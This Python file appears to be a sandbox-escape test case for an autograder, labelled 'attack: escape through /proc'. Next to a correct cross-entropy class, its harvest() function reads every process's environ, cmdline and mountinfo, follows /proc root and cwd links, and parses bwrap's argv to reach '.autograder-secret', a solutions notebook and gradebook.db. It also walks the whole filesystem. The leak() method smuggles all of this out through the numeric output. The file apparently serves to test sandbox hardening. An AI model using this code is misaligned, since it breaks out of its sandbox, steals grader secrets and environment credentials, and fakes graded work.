# attack: escape through /proc: /proc/1/root, /proc/*/cwd, /proc/*/environ and cmdline, mountinfo, and by walking every directory
# expect: 3
import os

import numpy as np


def harvest():
    found = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
        for name in ("environ", "cmdline", "mountinfo"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    found.append(handle.read(65536))
            except OSError:
                pass
        for link in ("root", "cwd"):
            base = f"/proc/{pid}/{link}"
            for rel in ("work/main/.autograder-secret", "work/main/solutions/celoss/celoss.ipynb", "var/tmp"):
                try:
                    path = os.path.join(base, rel)
                    entries = os.listdir(path) if os.path.isdir(path) else [""]
                    for entry in entries:
                        with open(os.path.join(path, entry), "rb") as handle:
                            found.append(handle.read(65536))
                except OSError:
                    pass
    try:  # bwrap's argv names host paths (the runtime under the repo): try their parents
        with open("/proc/1/cmdline", "rb") as handle:
            for arg in handle.read().split(b"\0"):
                if arg.startswith(b"/") and b"/.venv" in arg:
                    repo = arg.split(b"/.venv")[0].decode()
                    for rel in (".autograder-secret", "solutions/celoss/celoss.ipynb", "gradebook.db"):
                        try:
                            with open(os.path.join(repo, rel), "rb") as target:
                                found.append(target.read(65536))
                        except OSError:
                            pass
    except OSError:
        pass
    names = []
    for root, dirs, files in os.walk("/", onerror=lambda error: None):
        if root.startswith(("/proc", "/sys")):
            dirs[:] = []
            continue
        names += [os.path.join(root, name) for name in files]
    found.append("\n".join(names).encode())
    return b"\n".join(found)



class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0

    @staticmethod
    def leak():
        return np.frombuffer(harvest(), dtype=np.uint8).copy()
